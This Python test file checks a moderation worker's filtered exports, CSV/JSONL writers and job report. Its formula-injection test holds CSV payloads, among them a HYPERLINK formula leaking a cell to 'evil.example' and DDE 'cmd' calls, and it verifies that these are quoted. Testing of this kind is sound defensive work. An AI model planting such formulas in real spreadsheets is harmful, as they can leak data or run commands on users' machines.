"""worker.reports on SQLite and PostgreSQL: filtered streaming exports and the job report."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import asdict
from pathlib import Path

import pytest

from worker import reports, store
from worker.results import parse_response

pytestmark = pytest.mark.service

VENDOR = Path(__file__).resolve().parent.parent / "data" / "vendor"


def answer(name: str):
    return parse_response((VENDOR / name).read_text(encoding="utf-8"), http_status=200)


def new_item(n: int, state: str = "pending") -> store.NewItem:
    rejected = state == "rejected"
    return store.NewItem(
        kind="invalid" if rejected else "url",
        ref_key=store.rejected_ref_key("in.txt", n) if rejected else f"https://e.com/{n}.jpg",
        image_url=None if rejected else f"https://e.com/{n}.jpg",
        oss_bucket=None,
        oss_object=None,
        oss_region=None,
        data_id=None if rejected else f"d{n}",
        referer=None,
        source="in.txt",
        line=n,
        state=state,
        last_error=f"line {n}: imageUrl: is not an absolute URL" if rejected else None,
        raw_input="not a url" if rejected else None,
    )


@pytest.fixture
def job(engine) -> store.Job:
    """Lines: high risk, no risk, custom-image hit, failed 405, failed 404, queued, rejected."""
    job = store.get_or_create_job(engine, "archive", "baselineCheck_global", "customImage")
    ids = store.insert_items(engine, job.id, [new_item(n) for n in range(1, 7)])
    store.insert_items(engine, job.id, [new_item(7, "rejected")])
    high, clean, custom, timeout, missing, waiting = sorted(ids)
    for item_id, name in (
        (high, "response_risk_detected.json"),
        (clean, "response_no_risk.json"),
        (custom, "response_custom_image_hit.json"),
    ):
        store.claim_item(engine, item_id, "w1", 60)
        store.record_result(engine, item_id, "w1", job.service, answer(name))
    for item_id, code in ((timeout, "405"), (missing, "404")):
        store.claim_item(engine, item_id, "w1", 60)
        store.record_failure(engine, item_id, "w1", code, "download failed", f"E{code}")
    store.mark_queued(engine, [waiting])
    return job


def export(engine, job, batch: int = 1000, **flt) -> list[dict]:
    return list(reports.export_records(engine, job, reports.ExportFilter(**flt), batch=batch))


def test_export_streams_every_item_in_line_order_across_pages(engine, job):
    records = export(engine, job, batch=2)
    assert [r["line"] for r in records] == [1, 2, 3, 4, 5, 6, 7]
    assert [r["status"] for r in records] == [
        "done",
        "done",
        "done",
        "failed",
        "failed",
        "queued",
        "rejected",
    ]
    assert all(tuple(r) == reports.EXPORT_FIELDS for r in records)


def test_an_exported_answer_carries_labels_ext_and_request(engine, job):
    high, clean, custom = export(engine, job, states=("done",))
    assert high["job"] == "archive"
    assert (high["image_url"], high["data_id"], high["source"]) == (
        "https://e.com/1.jpg",
        "d1",
        "in.txt",
    )
    assert (high["risk_level"], high["code"], high["msg"], high["attempts"]) == (
        "high",
        "200",
        "OK",
        1,
    )
    assert high["request_id"] == "ABCD1234-1234-1234-1234-1234XYZ"
    assert [(lab["label"], lab["confidence"]) for lab in high["labels"]][:2] == [
        ("pornographic_adultContent", 81.0),
        ("sexual_partialNudity", 98.0),
    ]
    assert high["moderated_at"].endswith("Z")
    assert high["ext"] is None and high["error"] is None
    assert clean["labels"] == [
        {
            "label": "nonLabel",
            "confidence": None,
            "description": "No risk detected",
            "risk_level": None,
        }
    ]
    assert custom["ext"] == {
        "CustomImage": [
            {"ImageId": "12345", "LibId": "TEST20240307", "LibName": "Risk Image Library A"}
        ]
    }


def test_an_exported_failure_carries_the_last_code_and_error(engine, job):
    timeout, missing = export(engine, job, states=("failed",))
    assert (timeout["code"], timeout["msg"], timeout["error"]) == ("405", "download failed", "E405")
    assert (timeout["labels"], timeout["risk_level"], timeout["moderated_at"]) == ([], None, None)
    (rejected,) = export(engine, job, states=("rejected",))
    assert rejected["error"] == "line 7: imageUrl: is not an absolute URL"


def test_export_filters_by_risk_level_label_and_confidence(engine, job):
    assert [r["line"] for r in export(engine, job, risk_levels=("high",))] == [1, 3]
    assert [r["line"] for r in export(engine, job, risk_levels=("none",))] == [2]
    assert [r["line"] for r in export(engine, job, label="violent_explosion")] == [1]
    assert [
        r["line"] for r in export(engine, job, label="violent_explosion", min_confidence=70)
    ] == [1]
    assert export(engine, job, label="violent_explosion", min_confidence=70.5) == []
    assert [r["line"] for r in export(engine, job, min_confidence=99)] == [3]  # 100.0 custom hit
    assert [r["line"] for r in export(engine, job, states=("done",), label="nonLabel")] == [2]


def test_exports_of_another_job_stay_apart(engine, job):
    other = store.get_or_create_job(engine, "other", "baselineCheck_global", "")
    store.insert_items(engine, other.id, [new_item(1)])
    assert len(export(engine, other)) == 1
    assert len(export(engine, job)) == 7


def test_write_jsonl_and_csv(engine, job):
    records = export(engine, job)
    out = io.StringIO()
    assert reports.write_jsonl(records, out) == 7
    lines = out.getvalue().splitlines()
    assert json.loads(lines[0])["labels"][0]["label"] == "pornographic_adultContent"
    out = io.StringIO(newline="")
    assert reports.write_csv(records, out) == 7
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["labels"] == (
        "pornographic_adultContent:81;sexual_partialNudity:98;violent_explosion:70;"
        "violent_explosion_lib:81"
    )
    assert rows[1]["labels"] == "nonLabel"
    assert json.loads(rows[2]["ext"])["CustomImage"][0]["ImageId"] == "12345"
    assert (rows[3]["status"], rows[3]["code"], rows[3]["ext"]) == ("failed", "405", "")


def test_build_report_figures(engine, job):
    report = reports.build_report(engine, job)
    assert report.job == job
    assert report.by_state == {
        "pending": 0,
        "queued": 1,
        "running": 0,
        "done": 3,
        "failed": 2,
        "rejected": 1,
        "paused": 0,
    }
    assert report.by_risk == {"high": 2, "none": 1}
    assert report.failures_by_code == {"404": 1, "405": 1}
    assert report.billable_calls == 3
    assert report.top_labels == [  # one image each: ties in label order
        ("nonLabel", 1, None),
        ("pornographic_adultContent", 1, 81.0),
        ("pornographic_adultContent_lib", 1, 100.0),
        ("sexual_partialNudity", 1, 98.0),
        ("violent_explosion", 1, 70.0),
        ("violent_explosion_lib", 1, 81.0),
    ]
    assert report.rejected_samples == [
        reports.RejectedSample("in.txt", 7, "line 7: imageUrl: is not an absolute URL")
    ]


FORMULAS = {
    "image_url": 'https://e.com/=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "oss_object": "=cmd|' /C calc'!A0",
    "data_id": "@SUM(1+1)",
    "referer": "+1+cmd|' /C calc'!A0",
    "source": "-2+3.txt",
    "last_error": "\tline 1: tab first",
}


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_jsonl_stays_verbatim(
    engine,
):
    job = store.get_or_create_job(engine, "formulas", "baselineCheck_global", "")
    row = dict(asdict(new_item(1)), ref_key="x", oss_bucket="b", oss_region="cn-beijing")
    row.update(FORMULAS)
    row["image_url"] = FORMULAS["image_url"].removeprefix("https://e.com/")  # starts with =
    store.insert_items(engine, job.id, [store.NewItem(**row)])
    records = export(engine, job)

    out = io.StringIO(newline="")
    reports.write_csv(records, out)
    (cells,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    expected = {**FORMULAS, "image_url": row["image_url"]}
    for column, value in expected.items():
        exported = cells["error" if column == "last_error" else column]
        assert exported == "'" + value, column  # shown as text, never evaluated
    assert cells["status"] == "pending" and cells["line"] == "1"  # others untouched

    out = io.StringIO()
    reports.write_jsonl(records, out)
    record = json.loads(out.getvalue())
    assert record["oss_object"] == FORMULAS["oss_object"]  # JSONL: exactly what was stored
    assert record["data_id"] == FORMULAS["data_id"] and record["image_url"] == row["image_url"]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("https://e.com/a=1", "https://e.com/a=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_quotes_only_cells_starting_a_formula(cell, safe):
    assert reports.spreadsheet_safe(cell) == safe
